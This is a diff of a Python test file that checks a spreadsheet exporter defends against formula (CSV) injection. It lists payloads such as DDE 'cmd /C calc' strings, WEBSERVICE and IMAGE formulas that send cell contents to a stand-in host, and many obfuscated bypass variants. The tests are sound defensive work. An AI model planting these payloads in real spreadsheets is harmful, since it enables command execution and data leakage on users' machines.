@@ -14,15 +14,70 @@ MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
 # What has run somewhere: programs, dynamic data exchange, links, functions of the web; behind blanks, quotes, separators,
 # controls, invisible and full-width signs.
 PAYLOADS = (
-    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-cmd|'/C calc'!A0", "@cmd|'/C calc'!A0"),
-    *('=HYPERLINK("https://x.example","here")', '=WEBSERVICE("https://x.example/"&A1)', '=IMPORTXML("https://x.example","//a")'),
-    *('=DDE("cmd";"/C calc";"x")', "=rundll32|'URL.dll,OpenURL calc'!A", '=IMAGE("https://x.example/"&B2)', "=A1", "=-1", "=@A1"),
-    *("\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "   =1+1", "\u00a0=1+1", "\u3000=1+1", "\t\t@A1", "\x00=1+1", "\x1f=1+1"),
+    *(
+        "=1+1",
+        "+1+1",
+        "-1+1",
+        "@SUM(A1)",
+        "=cmd|'/C calc'!A0",
+        "+cmd|'/C calc'!A0",
+        "-cmd|'/C calc'!A0",
+        "@cmd|'/C calc'!A0",
+    ),
+    *(
+        '=HYPERLINK("https://x.example","here")',
+        '=WEBSERVICE("https://x.example/"&A1)',
+        '=IMPORTXML("https://x.example","//a")',
+    ),
+    *(
+        '=DDE("cmd";"/C calc";"x")',
+        "=rundll32|'URL.dll,OpenURL calc'!A",
+        '=IMAGE("https://x.example/"&B2)',
+        "=A1",
+        "=-1",
+        "=@A1",
+    ),
+    *(
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "\r\n=1+1",
+        " =1+1",
+        "   =1+1",
+        "\u00a0=1+1",
+        "\u3000=1+1",
+        "\t\t@A1",
+        "\x00=1+1",
+        "\x1f=1+1",
+    ),
     *('"=1+1', '"=1+1"', '" =1+1"', "'=1+1", "''=1+1", '""=1+1', "' =1+1", "\"'=1+1"),
-    *(";=1+1", ",=1+1", "a;=1+1", "a,=1+1", "a\t=1+1", "a\n=1+1", "a\r=1+1", 'a"=1+1', 'a";"=1+1', 'a","=1+1', "a|=1+1", "a; =1+1"),
+    *(
+        ";=1+1",
+        ",=1+1",
+        "a;=1+1",
+        "a,=1+1",
+        "a\t=1+1",
+        "a\n=1+1",
+        "a\r=1+1",
+        'a"=1+1',
+        'a";"=1+1',
+        'a","=1+1',
+        "a|=1+1",
+        "a; =1+1",
+    ),
     *("a;+1", "a;-1", "a;@x", "a,\u00a0=1", "x;y;z;=1", 'a";=1+1;"'),
     *("＝1+1", "＋1", "－1", "＠SUM", "﹦1+1", "﹢1", "﹣1", "﹫x", "−1", " ＝1+1", "a；＝1+1", "a，＝1", "＂＝1+1"),
-    *("\ufeff=1+1", "\u200b=1+1", "\u200e=1+1", "\u202e=1+1", "\u2060=1+1", "a;\u200b=1+1", "\u2028=1+1", "%0A=1+1", "|=1+1"),
+    *(
+        "\ufeff=1+1",
+        "\u200b=1+1",
+        "\u200e=1+1",
+        "\u202e=1+1",
+        "\u2060=1+1",
+        "a;\u200b=1+1",
+        "\u2028=1+1",
+        "%0A=1+1",
+        "|=1+1",
+    ),
     *("+886912345678", "-5", "=", "+", "-", "@", "=\n", "==1", "=+1", "-=1", "@@", "=1;=2", "=1\n=2"),
 )
 MARK = Watermark("Report", "staff:amy", "2026-06-08 10:00 +08:00", "For: the daily meeting")
@@ -46,7 +101,7 @@ def xlsx_cells(content):
         cells = []
         for name in names:
             if name.startswith("xl/worksheets/"):
-                for cell in ElementTree.fromstring(file.read(name)).iter(f"{MAIN}c"):
+                for cell in ElementTree.fromstring(file.read(name)).iter(f"{MAIN}c"):  # noqa: S314 - a file that we have just made
                     text = "".join(cell.itertext())
                     cells.append((name, cell.get("r"), cell.get("t"), text, cell.find(f"{MAIN}f") is not None))
     return names, cells
@@ -54,9 +109,12 @@ def xlsx_cells(content):
 
 def is_live(text):
     """Would some program run it, whole or once it has split it at a separator or a quote?"""
-    pieces = [text, *re.split("[;,\t\r\n|\"＂；，]", text)]
+    pieces = [text, *re.split('[;,\t\r\n|"＂；，]', text)]
     starts = "=+-@＝＋－＠﹦﹢﹣﹫−"
-    return any(piece.strip(" \u00a0\u3000\u200b\u200e\u202e\u2060\ufeff\x00\x1f\u2028\t\r\n")[:1] in tuple(starts) for piece in pieces)
+    return any(
+        piece.strip(" \u00a0\u3000\u200b\u200e\u202e\u2060\ufeff\x00\x1f\u2028\t\r\n")[:1] in tuple(starts)
+        for piece in pieces
+    )
 
 
 def test_the_table_of_payloads_is_what_it_says():
@@ -74,14 +132,28 @@ def test_no_text_is_run_and_each_risky_one_begins_with_the_guard(payload):
 
 
 @pytest.mark.parametrize(
-    "text", ["", "PAY-05ZK3T9MQ2W7XC", "HM-10-20", "a=b", "2026-06-08 10:00 +08:00", "1 + 1", "••••5566", "陶壺、紙燈籠", "a; b", "it's"]
+    "text",
+    [
+        "",
+        "PAY-05ZK3T9MQ2W7XC",
+        "HM-10-20",
+        "a=b",
+        "2026-06-08 10:00 +08:00",
+        "1 + 1",
+        "••••5566",
+        "陶壺、紙燈籠",
+        "a; b",
+        "it's",
+    ],
 )
 def test_what_nobody_runs_stays_as_it_is(text):
     assert harmless(text) == text
 
 
 def test_a_csv_of_payloads_in_every_text_cell_has_no_live_cell():
-    everywhere = [table(*PAYLOADS, title=payload, columns=[Column(payload)] * len(PAYLOADS)) for payload in PAYLOADS[:20]]
+    everywhere = [
+        table(*PAYLOADS, title=payload, columns=[Column(payload)] * len(PAYLOADS)) for payload in PAYLOADS[:20]
+    ]
 
     rows = csv_rows(as_csv(everywhere, Watermark("=T", "=by", "+at", "=1;=2\n=3", ["@words"])))
 
@@ -91,7 +163,9 @@ def test_a_csv_of_payloads_in_every_text_cell_has_no_live_cell():
 
 
 def test_an_xlsx_of_payloads_has_strings_and_no_formula_link_or_shared_part():
-    names, cells = xlsx_cells(as_xlsx([table(*PAYLOADS, title=PAYLOADS[0], columns=[Column("=x")] * len(PAYLOADS))], MARK))
+    names, cells = xlsx_cells(
+        as_xlsx([table(*PAYLOADS, title=PAYLOADS[0], columns=[Column("=x")] * len(PAYLOADS))], MARK)
+    )
 
     texts = [cell for cell in cells if cell[3]]
     assert len(texts) >= 2 * len(PAYLOADS)
@@ -117,13 +191,20 @@ def test_a_csv_begins_with_a_mark_that_spreadsheets_know_and_with_whose_it_is():
 
 
 def test_an_xlsx_says_whose_it_is_in_its_first_lines_and_on_each_printed_page():
-    content = as_xlsx([table("x"), table("y", title="An [odd]/name: of 'a sheet' that is far too long")], Watermark("R&D", "staff:amy", "now", "why"))
+    content = as_xlsx(
+        [table("x"), table("y", title="An [odd]/name: of 'a sheet' that is far too long")],
+        Watermark("R&D", "staff:amy", "now", "why"),
+    )
 
     _, cells = xlsx_cells(content)
     for sheet in ("xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"):
-        assert [text for name, _, _, text, _ in cells if name == sheet][:3] == ["Outpost · R&D", "staff:amy · now", "why"]
+        assert [text for name, _, _, text, _ in cells if name == sheet][:3] == [
+            "Outpost · R&D",
+            "staff:amy · now",
+            "why",
+        ]
         with zipfile.ZipFile(io.BytesIO(content)) as file:
-            header = ElementTree.fromstring(file.read(sheet)).find(f"{MAIN}headerFooter/{MAIN}oddHeader")
+            header = ElementTree.fromstring(file.read(sheet)).find(f"{MAIN}headerFooter/{MAIN}oddHeader")  # noqa: S314 - made just now
         assert header.text.startswith("&LOutpost · R&&D · staff:amy · now · why&R")
 
 
